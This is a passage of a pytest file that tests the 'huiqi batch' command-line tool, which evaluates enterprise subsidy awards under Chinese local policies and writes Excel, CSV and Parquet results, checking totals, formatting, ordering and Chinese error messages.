"""``huiqi batch`` through the real entry point: the Excel it writes totals to the
sum of the reference evaluations of the same register, scenario by scenario."""

from __future__ import annotations

import csv
import json
import re
import tempfile
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

openpyxl = pytest.importorskip("openpyxl")

from huiqi.batch.io_write import DIMENSIONS, ENGINE_LABELS  # noqa: E402
from huiqi.cli import main  # noqa: E402
from huiqi.core.credit_code import make_credit_code  # noqa: E402
from huiqi.service import engine  # noqa: E402

from .test_io import ENTERPRISES, EVENTS, PRIOR_AWARDS, bad_register, sheets_xlsx, write_xlsx  # noqa: E402

AS_OF = date(2025, 12, 31)


def reference_totals() -> tuple[int, int, dict[str, tuple[int, int]]]:
    """Each enterprise of the register as a plain scenario mapping, evaluated one by one."""
    eng = engine()
    low = high = 0
    payers: dict[str, tuple[int, int]] = {}

    def raw_value(v: Any) -> Any:
        return f"{v}元" if isinstance(v, Decimal) else v

    for ent in ENTERPRISES:
        events = [
            {("id" if k == "event_id" else k): raw_value(v) for k, v in e.items() if k != "credit_code" and v is not None}
            for e in EVENTS
            if e["credit_code"] == ent["credit_code"]
        ]
        priors = [
            {"amount": f"{p['amount']}元", "year": p["year"], "level": p["level"], "document": p["document"]}
            for p in PRIOR_AWARDS
            if p["credit_code"] == ent["credit_code"]
        ]
        scenario = eng.scenario({"enterprise": dict(ent), "events": events, "prior_awards": priors, "as_of": AS_OF})
        ev = eng.evaluate(scenario)
        assert ev.total.high is not None
        low += ev.total.low
        high += ev.total.high
        for payer, t in ev.by_payer.items():
            assert t.high is not None
            a, b = payers.get(payer, (0, 0))
            payers[payer] = (a + t.low, b + t.high)
    return low, high, payers


def csv_register(tmp_path: Path, enterprises: str, events: str) -> Path:
    """A CSV register folder 登记表.csv of the two tables' text."""
    folder = tmp_path / "登记表.csv"
    folder.mkdir()
    (folder / "enterprises.csv").write_text(enterprises, encoding="utf-8")
    (folder / "events.csv").write_text(events, encoding="utf-8")
    return folder


def batch_rows(
    register: Path, engine_name: str, as_of: str, out: Path, capsys: pytest.CaptureFixture[str]
) -> dict[tuple[str, str], dict[str, str]]:
    """``huiqi batch`` of ``register`` on one engine to the CSV ``out``: its rows by (奖补项编号, 事项编号)."""
    assert main(["batch", str(register), "--engine", engine_name, "--as-of", as_of, "--out", str(out)]) == 0
    capsys.readouterr()
    with out.open(encoding="utf-8-sig") as fh:
        return {(r["奖补项编号"], r["事项编号"]): r for r in csv.DictReader(fh)}


def fen(value: Any) -> int:
    """An amount of 元 as a sheet holds it (a number cell, or its text in a CSV) in fen."""
    cents = Decimal(str(value)) * 100
    assert cents == cents.to_integral_value(), value
    return int(cents)


def sheet_rows(wb: Any, title: str) -> list[dict[str, Any]]:
    rows = list(wb[title].iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


@pytest.mark.parametrize("engine_name", ["reference", "duckdb"])
def test_batch_excel_totals_equal_the_reference_evaluations(
    tmp_path: Path, engine_name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    if engine_name == "duckdb":
        pytest.importorskip("duckdb")
    register = write_xlsx(tmp_path / "登记表.xlsx")
    out = tmp_path / "结果.xlsx"
    code = main(["batch", str(register), "--engine", engine_name, "--as-of", AS_OF.isoformat(), "--out", str(out)])
    printed = capsys.readouterr().out
    assert code == 0
    low, high, payers = reference_totals()
    assert low < high and high > 0
    wb = openpyxl.load_workbook(out)
    assert {"汇总", "结果", "按政策文件", "按条款", "按责任单位", "按出资方", "按镇街", "问题"} <= set(wb.sheetnames)
    granted = [r for r in sheet_rows(wb, "结果") if r["状态"] == "可享受" and r["最低（元）"] not in (None, "")]
    assert sum(fen(r["最低（元）"]) for r in granted) == low
    assert sum(fen(r["最高（元）"]) for r in granted) == high
    # money and dates are Excel numbers and dates (SUM and sorting work), shown to the fen
    col = {h: i for i, h in enumerate(next(wb["结果"].iter_rows(max_row=1, values_only=True)))}
    cells = [row for row in wb["结果"].iter_rows(min_row=2) if row[col["最低（元）"]].value not in (None, "")]
    assert cells and all(type(r[col["最低（元）"]].value) in (int, float) for r in cells)
    assert {r[col["最低（元）"]].number_format for r in cells} == {"#,##0.00"}
    dated = [r[col["发生日期"]] for r in cells if r[col["发生日期"]].value is not None]
    assert dated and all(c.is_date and c.number_format == "yyyy-mm-dd" for c in dated)
    # 条款 numbers are numbers (2 sorts before 10); articles numbered in Chinese keep their words
    articles = {r["条款"] for r in sheet_rows(wb, "结果")}
    assert {1, 8, 9} <= articles and not any(type(a) is str and a.isdigit() for a in articles)
    kinds = {r["事项类型"] for r in sheet_rows(wb, "结果") if r["事项类型"]}
    assert "采购" in kinds and not any(k.isascii() for k in kinds)  # labels, not the codes (purchase)
    by_payer = {r["出资方"]: (fen(r["合计最低（元）"]), fen(r["合计最高（元）"])) for r in sheet_rows(wb, "按出资方")}
    assert by_payer == payers
    for title in ("按政策文件", "按条款", "按责任单位", "按镇街"):
        rows = sheet_rows(wb, title)
        assert sum(fen(r["合计最高（元）"]) for r in rows) == high, title
    overview = {r["项目"]: r["值"] for r in sheet_rows(wb, "汇总")}
    assert fen(overview["合计最高（元）"]) == high
    # the file says of what run it is: a what-if run on a copy of the policies looked alike
    assert (overview["基准日"], overview["测算引擎"]) == (AS_OF.isoformat(), ENGINE_LABELS[engine_name])
    assert str(overview["政策文件夹"]).endswith("policies（内置政策）") and overview["生成时间"]
    assert f"最高{high // 100:,}.{high % 100:02d}元" in printed  # thousands separated on the terminal
    assert "拒绝0行" in printed


def test_bad_rows_are_listed_and_the_good_rows_evaluated(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    register = bad_register(tmp_path)
    out = tmp_path / "结果.xlsx"
    code = main(["batch", str(register), "--engine", "reference", "--as-of", AS_OF.isoformat(), "--out", str(out), "--json"])
    assert code == 0
    data = json.loads(capsys.readouterr().out)
    assert data["rows"]["events"] == {"read": 12, "rejected": 8, "accepted": 4}
    assert data["rows"]["enterprises"] == {"read": 4, "rejected": 1, "accepted": 3}
    assert data["enterprises_evaluated"] == 3 and data["events_evaluated"] == 4
    assert set(data["seconds"]) == {"read", "evaluate", "write"} and data["seconds"]["write"] > 0  # the Excel file
    assert any(e["value"] == "abc" and e["sheet"] == "事项" and e["row"] == 8 for e in data["errors"])
    _, high, _ = reference_totals()
    assert data["total"]["max"] == f"{high // 100}.{high % 100:02d}"  # the good rows give the same answer
    wb = openpyxl.load_workbook(out)
    problems = sheet_rows(wb, "问题")
    assert len(problems) == len(data["errors"])
    assert {p["列"] for p in problems} >= {"统一社会信用代码", "事项类型", "事项编号"}


def test_text_summary_lists_rejected_rows(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    register = bad_register(tmp_path)
    assert main(["batch", str(register), "--engine", "reference", "--as-of", AS_OF.isoformat()]) == 0
    text = capsys.readouterr().out
    assert "事项：读取12行，拒绝8行，有效4行" in text
    assert "有误.xlsx［事项］第8行" in text and "“abc”" in text
    assert "按出资方" in text


def test_csv_and_parquet_results(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("pyarrow")
    import pyarrow.parquet as pq

    register = write_xlsx(tmp_path / "登记表.xlsx")
    assert (
        main(
            ["batch", str(register), "--engine", "reference", "--as-of", AS_OF.isoformat(), "--out", str(tmp_path / "r.parquet")]
        )
        == 0
    )
    assert (
        main(["batch", str(register), "--engine", "reference", "--as-of", AS_OF.isoformat(), "--out", str(tmp_path / "r.csv")])
        == 0
    )
    capsys.readouterr()
    _, high, _ = reference_totals()
    t = pq.read_table(tmp_path / "r.parquet").to_pylist()
    assert sum(r["max_fen"] for r in t if r["status"] == "granted" and r["max_fen"] is not None) == high
    group = pq.ParquetFile(tmp_path / "r.parquet").metadata.row_group(0)
    text = [group.column(i) for i in range(group.num_columns) if group.column(i).physical_type == "BYTE_ARRAY"]
    assert [c.path_in_schema for c in text if not c.has_dictionary_page] == ["credit_code", "name", "event_id"]
    assert (tmp_path / "r.按出资方.csv").exists() and (tmp_path / "r.csv").read_text(encoding="utf-8-sig").startswith(
        "统一社会信用代码"
    )


def test_a_csv_register_runs_like_the_same_register_in_parquet(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A folder of CSV files goes the way a Parquet register goes (validated in SQL, chunk by
    chunk): the same counts, totals and result rows, in the same order, with no row sent to
    the Python validator; the order is the register's, not that of the credit codes."""
    pq = pytest.importorskip("pyarrow.parquet")
    pytest.importorskip("duckdb")
    runs = {}
    for fmt in ("csv", "parquet"):
        register = tmp_path / f"reg.{fmt}"
        assert main(["synth", "--enterprises", "300", "--seed", "8", "--out", str(register)]) == 0
        capsys.readouterr()
        out = tmp_path / f"r-{fmt}.parquet"
        assert main(["batch", str(register), "--as-of", AS_OF.isoformat(), "--out", str(out), "--json"]) == 0
        runs[fmt] = (json.loads(capsys.readouterr().out), pq.read_table(out).to_pylist())
    (csv_json, csv_rows), (pq_json, pq_rows) = runs["csv"], runs["parquet"]
    assert csv_json["chunks"] == 1 and csv_json["rows_validated_in_python"] == 0
    for key in ("rows", "results", "total", "by", "errors"):
        assert csv_json[key] == pq_json[key], key
    assert len(csv_rows) > 1000 and csv_rows == pq_rows
    codes = list(dict.fromkeys(r["credit_code"] for r in csv_rows))
    assert codes != sorted(codes)


def test_the_json_lists_results_and_groups_as_the_sheets_do_whatever_the_engine(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--json`` lists each summary's groups in the order of its sheet (largest total
    first), so two runs of one register print the same JSON whatever the engine or the
    order in which the evaluation met the groups."""
    pytest.importorskip("duckdb")
    register = tmp_path / "reg.parquet"
    assert main(["synth", "--enterprises", "200", "--seed", "3", "--out", str(register)]) == 0
    capsys.readouterr()
    printed = {}
    for name in ("reference", "duckdb"):
        out = tmp_path / f"{name}.parquet"
        assert main(["batch", str(register), "--engine", name, "--as-of", AS_OF.isoformat(), "--out", str(out), "--json"]) == 0
        data = json.loads(capsys.readouterr().out)
        for dim, title in DIMENSIONS.items():
            with out.with_name(f"{out.stem}.{title}.csv").open(encoding="utf-8-sig", newline="") as fh:
                sheet = [row[0] for row in list(csv.reader(fh))[1:]]
            assert list(data["by"][dim]) == sheet, (name, dim)
        assert len(data["by"]["article"]) > 5
        assert list(data["results"]) == sorted(data["results"])  # as the overview sheet lists them
        printed[name] = json.dumps({k: data[k] for k in ("results", "total", "by")}, ensure_ascii=False)
    assert printed["reference"] == printed["duckdb"]


def test_a_long_run_shows_each_stage_on_the_progress_bar(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A CSV register streamed chunk by chunk shows, in turn, the rows read, the rows
    validated and the chunks evaluated (of how many), each stage ending on its final count."""
    pytest.importorskip("duckdb")
    register = tmp_path / "reg.csv"
    assert main(["synth", "--enterprises", "200", "--seed", "9", "--out", str(register)]) == 0
    capsys.readouterr()
    monkeypatch.setenv("HUIQI_PROGRESS", "1")
    assert main(["batch", str(register), "--as-of", AS_OF.isoformat(), "--out", str(tmp_path / "r.parquet")]) == 0
    err = capsys.readouterr().err
    finals = [line.split("\r")[-1] for line in err.split("\n") if line.strip()]
    rows = sum(sum(1 for _ in f.open(encoding="utf-8-sig")) - 1 for f in register.glob("*.csv"))
    assert [f.split(" ")[0] for f in finals] == ["读取", "校验", "测算（块）"], finals
    assert finals[0].startswith(f"读取 {rows:,} 行") and finals[1].startswith(f"校验 {rows:,} 行"), finals
    assert "100.0% 1/1" in finals[2]


def test_stages_draw_one_bar_per_stage_and_end_each_on_its_count() -> None:
    import io

    from huiqi.batch.progress import Stages

    out = io.StringIO()
    with Stages(out, enabled=True) as stages:
        stages("读取", 5)
        stages("读取", 7)
        stages("测算（块）", 1, 2)
        stages("测算（块）", 1, 2)
    finals = [line.split("\r")[-1] for line in out.getvalue().split("\n") if line.strip()]
    assert finals[0].startswith("读取 12 行") and finals[1].startswith("测算（块） ") and "100.0% 2/2" in finals[1]
    assert len(finals) == 2


def test_a_bar_shows_no_rate_before_a_second_has_passed() -> None:
    """A stage's first update (every row read at once, a whole chunk) drew 71,000,000/秒 and 剩余约0秒."""
    import io

    from huiqi.batch.progress import Progress

    bar = Progress("测算（块）", 4, io.StringIO(), enabled=True)
    bar.update(1)
    assert bar.text(bar.start + 0.001).endswith("25.0% 1/4")
    assert bar.text(bar.start + 2.0).endswith("25.0% 1/4 0.5/秒 剩余约6秒")
    rows = Progress("读取", None, io.StringIO(), enabled=True)
    rows.update(10**7)
    assert rows.text(rows.start + 0.01) == "读取 10,000,000 行 已用0.0秒"
    assert rows.text(rows.start + 4.0) == "读取 10,000,000 行 2,500,000/秒 已用4.0秒"


def _english(message: str, path: Path) -> list[str]:
    """Words of English in ``message`` other than the file's path and the format's names."""
    return [w for w in re.findall(r"[A-Za-z]{3,}", message.replace(str(path), "")) if w not in ("Excel", "xlsx", "xls", "zip")]


def test_unreadable_register_exits_2_with_a_message(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["batch", str(tmp_path / "无此文件.xlsx"), "--engine", "reference"]) == 2
    assert "找不到登记表" in capsys.readouterr().err
    bad = tmp_path / "坏.xlsx"
    bad.write_bytes(b"PK\x03\x04 broken")
    assert main(["batch", str(bad), "--engine", "reference"]) == 2
    err = capsys.readouterr().err
    assert "无法读取Excel文件" in err and "不是Excel工作簿" in err
    assert not _english(err, bad)  # the readers' own (English) words are not shown
    renamed = tmp_path / "图片.xlsx"  # a picture renamed, and a workbook cut short in copying
    renamed.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(64))
    cut = tmp_path / "不完整.xlsx"
    assert main(["template", str(tmp_path / "t.xlsx")]) == 0
    cut.write_bytes((tmp_path / "t.xlsx").read_bytes()[:3000])
    for path in (renamed, cut):
        for name in ("reference", "duckdb"):
            assert main(["batch", str(path), "--engine", name]) == 2
            err = capsys.readouterr().err
            assert "不是Excel工作簿" in err and not _english(err, path), err
    # a workbook whose sheet's compressed data was damaged in copying (zlib's error was a traceback)
    damaged = tmp_path / "损坏.xlsx"
    data = bytearray((tmp_path / "t.xlsx").read_bytes())
    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
        part = next(i for i in z.infolist() if i.filename.startswith("xl/worksheets/") and i.compress_size > 200)
    start = part.header_offset + 30 + len(part.filename.encode()) + len(part.extra)
    for at in range(start + 20, start + 60):
        data[at] ^= 0xFF
    damaged.write_bytes(bytes(data))
    for name in ("reference", "duckdb"):
        assert main(["batch", str(damaged), "--engine", name]) == 2
        err = capsys.readouterr().err
        assert "工作簿内容已损坏" in err and not _english(err, damaged), err


def test_outputs_are_refused_before_the_register_is_read(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An output that would overwrite the officer's register, has an unknown kind, names an
    existing folder or lies where nothing can be written is refused at once, with exit
    status 2 and a message naming it; the register is left as it was and nothing is written."""
    register = write_xlsx(tmp_path / "登记表.xlsx")
    before = register.read_bytes()
    blocker = tmp_path / "一个文件"
    blocker.write_text("x", encoding="utf-8")
    (tmp_path / "已有文件夹.xlsx").mkdir()
    cases = {
        str(register): "会覆盖登记表",
        str(tmp_path / "." / "登记表.xlsx"): "会覆盖登记表",
        str(tmp_path / "结果.txt"): "无法识别的输出格式",
        str(tmp_path / "已有文件夹.xlsx"): "是已有的文件夹",
        str(blocker / "结果.xlsx"): "是文件，不是文件夹",
        "/proc/huiqi/结果.xlsx": "文件或文件夹不存在",  # cannot be created, even by root
    }
    for out, words in cases.items():
        for engine_name in ("reference", "duckdb"):
            args = ["batch", str(register), "--engine", engine_name, "--as-of", AS_OF.isoformat(), "--out", out]
            assert main(args) == 2, out
            captured = capsys.readouterr()
            assert words in captured.err and "Traceback" not in captured.err, (out, captured.err)
            assert captured.out == ""  # refused before the register was read: no summary
    assert register.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["一个文件", "已有文件夹.xlsx", "登记表.xlsx"]
    other = write_xlsx(tmp_path / "另一份登记表.xlsx")  # another register given as the output
    kept = other.read_bytes()
    args = ["batch", str(register), "--engine", "reference", "--as-of", AS_OF.isoformat(), "--out", str(other)]
    assert main(args) == 2
    assert "是一份登记表" in capsys.readouterr().err and other.read_bytes() == kept
    results = tmp_path / "结果.xlsx"
    assert main([*args[:-1], str(results)]) == 0 and main([*args[:-1], str(results)]) == 0  # earlier results: replaced
    capsys.readouterr()
    other.unlink()
    results.unlink()
    folder = tmp_path / "登记表.parquet"
    assert main(["synth", "--enterprises", "3", "--out", str(folder)]) == 0
    assert main(["batch", str(folder), "--as-of", AS_OF.isoformat(), "--out", str(folder / "events.parquet")]) == 2
    assert "会覆盖登记表" in capsys.readouterr().err
    files = {p.name: p.read_bytes() for p in folder.iterdir()}
    for out in ("enterprises.parquet", "结果.csv", "sub/结果.csv"):  # the register named by one of its files: its folder
        assert main(["batch", str(folder / "events.parquet"), "--as-of", AS_OF.isoformat(), "--out", str(folder / out)]) == 2
        assert "会覆盖登记表" in capsys.readouterr().err
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == files
    assert main(["template", str(tmp_path / "模板.csv")]) == 2
    assert "应以 .xlsx 结尾" in capsys.readouterr().err and not (tmp_path / "模板.csv").exists()
    assert main(["export-sql", "--dialect", "spark", "--out", str(blocker / "plan.sql")]) == 2
    assert "是文件，不是文件夹" in capsys.readouterr().err


def test_synth_refuses_options_it_cannot_use(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A negative seed or event rate ended in a numpy traceback."""
    out = tmp_path / "r.xlsx"
    for args, words in [
        (["--seed", "-1"], "--seed 应为0或正整数，收到“-1”"),
        (["--events-per-enterprise", "-1"], "--events-per-enterprise 应为大于0、不超过1000的数"),
        (["--events-per-enterprise", "nan"], "--events-per-enterprise 应为大于0、不超过1000的数"),
    ]:
        assert main(["synth", "--enterprises", "3", *args, "--out", str(out)]) == 2
        err = capsys.readouterr().err
        assert words in err and "Traceback" not in err
    assert not out.exists()
    assert main(["synth", "--enterprises", "3", "--out", str(out)]) == 0
    before = out.read_bytes()
    assert main(["synth", "--enterprises", "5", "--out", str(out)]) == 2  # an existing register is not overwritten
    assert "已存在" in capsys.readouterr().err and out.read_bytes() == before
    assert main(["synth", "--enterprises", "5", "--out", str(out), "--overwrite"]) == 0
    assert out.read_bytes() != before


def test_a_write_that_fails_midway_ends_with_a_message_not_a_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The checks cannot foresee every failure (a full disk, a summary file's name taken by a
    folder): the error still names the file and why, in Chinese, with exit status 2."""
    register = write_xlsx(tmp_path / "登记表.xlsx")
    (tmp_path / "结果.汇总.csv").mkdir()
    args = ["batch", str(register), "--engine", "reference", "--as-of", AS_OF.isoformat(), "--out", str(tmp_path / "结果.csv")]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert err.startswith("错误：无法读写“") and "结果.汇总.csv" in err and "这是一个文件夹" in err


def test_memory_limited_excel_batch_removes_its_spill_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`huiqi batch x.xlsx --memory-limit …` on the compiled backend gives DuckDB a folder to spill to;
    it used to stay behind in the temporary folder after every run."""
    pytest.importorskip("duckdb")
    register = write_xlsx(tmp_path / "登记表.xlsx")
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    args = ["batch", str(register), "--engine", "duckdb", "--as-of", AS_OF.isoformat(), "--memory-limit", "256MB", "--json"]
    assert main(args) == 0
    assert json.loads(capsys.readouterr().out)["events_evaluated"] > 0
    assert list(scratch.iterdir()) == []


def test_excel_results_of_the_compiled_backend_come_in_a_fixed_order(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """In the register's order of enterprises (as the reference engine lists them), then by
    event date and event (yearly rows first), then item, so that two runs on one register
    give the same sheet, row for row."""
    pytest.importorskip("duckdb")
    calamine = pytest.importorskip("python_calamine")
    register = tmp_path / "登记表.xlsx"
    assert main(["synth", "--enterprises", "400", "--seed", "3", "--out", str(register)]) == 0
    ehead, *erows = calamine.CalamineWorkbook.from_path(str(register)).get_sheet_by_name("企业").to_python()
    place = {r[ehead.index("统一社会信用代码")]: i for i, r in enumerate(erows)}
    assert list(place) != sorted(place)  # the register is not in credit-code order
    sheets = {}
    for engine_name in ("duckdb", "reference"):
        out = tmp_path / f"结果-{engine_name}.xlsx"
        args = ["batch", str(register), "--engine", engine_name, "--as-of", AS_OF.isoformat(), "--out", str(out)]
        assert main(args) == 0
        capsys.readouterr()
        sheets[engine_name] = calamine.CalamineWorkbook.from_path(str(out)).get_sheet_by_name("结果").to_python()
    head, *rows = sheets["duckdb"]
    col = {h: i for i, h in enumerate(head)}
    assert len(rows) > 1000

    def key(r: list[Any]) -> tuple[Any, ...]:
        event = "" if r[col["事项编号"]] == "（年度）" else r[col["事项编号"]]
        return (place[r[col["统一社会信用代码"]]], str(r[col["发生日期"]]), event, r[col["奖补项编号"]])

    keys = [key(r) for r in rows]
    assert keys == sorted(keys) and len(set(keys)) == len(keys)
    ref_rows = sheets["reference"][1:]
    assert len(ref_rows) == len(rows)
    code = col["统一社会信用代码"]
    assert list(dict.fromkeys(r[code] for r in rows)) == list(dict.fromkeys(r[code] for r in ref_rows))


def test_excel_reasons_of_the_compiled_backend_follow_their_codes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """原因与说明 gives the text of each code of 原因代码, in the codes' order (it came in join order)."""
    pytest.importorskip("duckdb")
    from huiqi.batch.cli_batch import _reason_texts

    register = tmp_path / "登记表.xlsx"
    assert main(["synth", "--enterprises", "2500", "--seed", "4", "--out", str(register)]) == 0
    out = tmp_path / "结果.csv"
    assert main(["batch", str(register), "--engine", "duckdb", "--as-of", AS_OF.isoformat(), "--out", str(out)]) == 0
    capsys.readouterr()
    text = {(r["benefit"], r["code"]): r["text"] for r in _reason_texts(engine())}
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if r["原因代码"].count("；") >= 1]
    assert len(rows) > 1000
    for r in rows:
        codes = r["原因代码"].split("；")
        assert r["原因与说明"] == "；".join(text.get((r["奖补项编号"], c), c) for c in codes), r


def test_a_memory_limit_too_small_is_told_in_chinese_not_a_traceback(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    register = tmp_path / "登记表.xlsx"
    assert main(["synth", "--enterprises", "500", "--seed", "2", "--out", str(register)]) == 0
    capsys.readouterr()
    out = tmp_path / "结果.csv"
    args = ["batch", str(register), "--engine", "duckdb", "--as-of", AS_OF.isoformat(), "--out", str(out), "--memory-limit"]
    assert main([*args, "100KB"]) == 2
    assert capsys.readouterr().err.strip() == "错误：内存上限“100KB”太小：至少64MB（建议1GB以上）"
    assert main([*args, "100000TB"]) == 2  # far above any machine's memory
    assert capsys.readouterr().err.startswith("错误：内存上限“100000TB”超过本机内存（约")
    assert main([*args, "64MB"]) == 2  # enough to start, not to evaluate 500 enterprises' workbook
    err = capsys.readouterr().err
    assert err.startswith("错误：内存不足：在内存上限64MB内无法完成测算（DuckDB：") and "Traceback" not in err
    assert "请调大 --memory-limit" in err and not out.exists()


@pytest.mark.parametrize("engine_name", ["reference", "duckdb"])
def test_an_award_without_upper_bound_counts_its_floor_in_the_highest_total(
    tmp_path: Path, engine_name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """苏州2020 一: the district's interest award is 不低于1% (no upper bound). The totals' 最高 counts
    its floor, so that no 最高 is below its 最低 (it left the award out while 最低 counted it:
    最高 2,000,000.00 under 最低 5,000,000.00, and 0.00 for the district that pays it)."""
    folder = csv_register(
        tmp_path,
        "credit_code,name,region\n91320505MA1PRXBE30,测试贷款公司,320505\n",
        "credit_code,id,kind,date,amount,purpose,via_platform\n"
        "91320505MA1PRXBE30,L3,loan,2021-01-01,300000000.99,智能化改造提升项目,是\n",
    )
    args = ["batch", str(folder), "--engine", engine_name, "--as-of", "2021-12-31"]
    assert main([*args, "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    # the floor, 1% of 300,000,000.99元 = 3,000,000.0099元, is met from 3,000,000.01元 (rounded up)
    assert data["total"] == {"count": 2, "min": "5000000.01", "max": "5000000.01", "unbounded": 1, "unpriced": 0}
    assert data["by"]["payer"]["虎丘区财政"] == {
        "count": 1,
        "min": "3000000.01",
        "max": "3000000.01",
        "unbounded": 1,
        "unpriced": 0,
        "split": "已明确",
    }
    assert main(args) == 0
    text = capsys.readouterr().out
    assert "可享受资金合计：最低5,000,000.01元，最高5,000,000.01元（另有1项不设上限，按最低额计入）" in text
    assert "虎丘区财政：1项，最低3,000,000.01元，最高3,000,000.01元（其中1项不设上限，按最低额计入）" in text
    # the result row: the 最高 column stays a column of numbers (an Excel pivot or SUM over it fails on text)
    rows = batch_rows(folder, engine_name, "2021-12-31", tmp_path / "r.csv", capsys)
    floors = [r for r in rows.values() if r["金额性质"] == "不低于（不设上限）"]
    assert len(floors) == 1 and floors[0]["状态"] == "可享受"
    assert floors[0]["最低（元）"] == "3000000.01" and floors[0]["最高（元）"] == ""


def test_the_compiled_backend_names_each_requirement_a_row_failed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Two requirements of one clause used to read alike (未满足：<the clause's words> twice);
    each is now named with its legal word, and a date outside the document's window names it."""
    folder = csv_register(
        tmp_path,
        "credit_code,name,region,manufacturing_enterprise\n91320412MA1WJ00011,示例武进企业,320412,否\n",
        "credit_code,id,kind,date,category,total_investment,smart_it_investment\n"
        "91320412MA1WJ00011,P1,project,2024-05-20,智改数转网联改造,5000000,4000000\n"
        "91320412MA1WJ00011,P2,project,2025-05-20,智改数转网联改造,8000000,4000000\n",
    )
    rows = batch_rows(folder, "duckdb", "2024-12-31", tmp_path / "结果.csv", capsys)
    reasons = {k: r["原因与说明"] for k, r in rows.items()}
    assert reasons[("wj-1-smart-upgrade", "P1")] == "未满足：是否制造业企业应为“是”；未满足：项目实际总投入超500万元（不含本数）"
    assert reasons[("wj-1-smart-upgrade", "P2")] == (
        "日期不在《武进2024》有效期（2024-01-01至2024-12-31，按解释）内；未满足：是否制造业企业应为“是”"
    )


@pytest.mark.parametrize("engine_name", ["reference", "duckdb"])
def test_a_near_miss_only_for_blank_cells_reads_missing_facts(
    tmp_path: Path, engine_name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """武进2024 智改数转网联: 是否制造业企业 left blank is 缺少资料 (absent:i, what to fill in), not a requirement
    failed: an officer asks the enterprise for it instead of striking it off. A row that also fails a
    requirement stays 未满足条件. Both engines word the blank alike."""
    folder = csv_register(
        tmp_path,
        "credit_code,name,region,manufacturing_enterprise\n91320412MA1WJ00011,示例武进企业,320412,\n",
        "credit_code,id,kind,date,category,total_investment,smart_it_investment\n"
        "91320412MA1WJ00011,P1,project,2024-05-20,智改数转网联改造,8000000,4000000\n"
        "91320412MA1WJ00011,P2,project,2024-06-20,智改数转网联改造,5000000,4000000\n",
    )
    rows = batch_rows(folder, engine_name, "2024-12-31", tmp_path / "结果.csv", capsys)
    blank, short = rows[("wj-1-smart-upgrade", "P1")], rows[("wj-1-smart-upgrade", "P2")]
    assert (blank["状态"], blank["原因代码"]) == ("缺少资料", "absent:2")
    assert blank["原因与说明"] == "是否制造业企业未填写（应为“是”）"
    assert (short["状态"], short["原因代码"]) == ("未满足条件", "absent:2；when:3")
    # the summaries count it within 未满足条件, for the officer to know how many to ask for data
    assert main(["batch", str(folder), "--engine", engine_name, "--as-of", "2024-12-31", "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert (data["results"]["near_miss"], data["missing_facts"]) == (2, 1)
    with (tmp_path / "结果.汇总.csv").open(encoding="utf-8-sig", newline="") as fh:
        overview = {row[0]: row[1] for row in csv.reader(fh) if len(row) > 1}
    assert overview["结果行：其中缺少资料（补填后可能符合）"] == "1"


@pytest.mark.parametrize("engine_name", ["reference", "duckdb"])
def test_a_once_per_product_award_without_its_product_says_it_was_not_checked(
    tmp_path: Path, engine_name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """苏州2020 第十六条 pays a product once. Without the product the award is still paid (as never
    paid before) and its row says the check was not made; the compiled backend's row said nothing."""
    folder = csv_register(
        tmp_path,
        "credit_code,name,region\n91320585MA1W20006H,示例智能装备企业,320585\n",
        "credit_code,id,kind,date,title,level,unit_price,product\n"
        "91320585MA1W20006H,F1,recognition,2022-07-01,首台（套）装备及关键零部件,省级,2000000,\n"
        "91320585MA1W20006H,F2,recognition,2022-08-01,首台（套）装备及关键零部件,省级,2000000,数控机床A\n",
    )
    rows = batch_rows(folder, engine_name, "2022-12-31", tmp_path / "结果.csv", capsys)
    unchecked, checked = rows[("sz20-16-first-set", "F1")], rows[("sz20-16-first-set", "F2")]
    assert (unchecked["状态"], unchecked["最低（元）"], unchecked["最高（元）"]) == ("可享受", "400000.00", "600000.00")
    assert unchecked["原因代码"] == "once_key_missing"
    assert "未填写产品（型号、系列），无法核对是否已奖励过同一产品（型号、系列）（按未奖励过计）" in unchecked["原因与说明"]
    assert checked["状态"] == "可享受" and checked["原因代码"] == ""


@pytest.mark.parametrize("engine_name", ["reference", "duckdb"])
def test_a_key_of_several_facts_names_the_ones_left_blank(
    tmp_path: Path, engine_name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """吴中 第14条 pays a title, product and level once. With the title and level given and the product
    blank, the note names the product only; the compiled backend named all three as 未全部填写."""
    folder = csv_register(
        tmp_path,
        "credit_code,name,region\n91320506MA1XXXXX09,示例企业,320506\n",
        "credit_code,id,kind,date,title,level,product\n"
